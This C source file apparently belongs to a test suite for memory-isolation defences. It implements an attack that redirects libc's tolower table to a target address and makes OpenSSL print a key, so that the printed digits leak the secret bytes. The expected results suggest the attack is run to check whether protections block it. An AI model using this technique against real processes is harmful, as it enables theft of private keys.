/*
 * locale.c - an attack by a table of libc's. What tolower looks into stands in
 * a word of the thread's, which anybody can write; and the text of a public key
 * is made of hexadecimal digits that have gone through it.
 */
#include "attack.h"
#include "needles.h"

#include <openssl/evp.h>

#include <ctype.h>
#include <string.h>

#define DIGITS 10 /* those that are no letters */
#define STRIDE sizeof(__int32_t)

struct text {
    char p[8192];
    size_t len;
};

/* The key's, with |table| for the letters. */
static void print(struct text *t, const __int32_t *table)
{
    const __int32_t **word = __ctype_tolower_loc(), *was = *word;
    BIO *to = BIO_new(BIO_s_mem());

    t->len = 0;
    *word = table;
    EVP_PKEY_print_private(to, victim.key, 0, NULL);
    *word = was;
    BIO_read_ex(to, t->p, sizeof(t->p) - 1, &t->len);
    BIO_free(to);
}

/* Where in its text |label| is; the digits before the exponent, which is a
 * decimal number, go through the table. */
static size_t place(struct text *t, const char *label)
{
    const char *at;

    t->p[t->len] = '\0';
    at = strstr(t->p, label);
    if (at == NULL) {
        trouble("the text of a key");
    }
    return (size_t)(at - t->p);
}

/* A digit becomes the byte that is in its place of the table. */
static void look_at_the_key(void)
{
    unsigned char read[DIGITS * STRIDE] = {0};
    static struct text plain, got;
    size_t start, end;

    victim_ready();
    print(&plain, *__ctype_tolower_loc());
    start = place(&plain, "Modulus:");
    end = place(&plain, "Exponent:");
    for (size_t k = 0; k < STRIDE; k++) {
        print(&got, (const __int32_t *)(victim.target + k - '0' * STRIDE));
        for (size_t i = start; i < end && i < got.len; i++) {
            if (plain.p[i] >= '0' && plain.p[i] <= '9') {
                read[(size_t)(plain.p[i] - '0') * STRIDE + k] =
                    (unsigned char)got.p[i];
            }
        }
    }
    cell(needles_find(read, sizeof(read)) != NULL ? "**key read**"
                                                  : "nothing found");
}

const struct attack locale_attacks[] = {
    {"locale", "T1: libc's table for `tolower`",
     "puts the key's address there and has the public key printed", KEYS,
     look_at_the_key, .want = {NULL, "nothing found", "nothing found"}},
    {0},
};
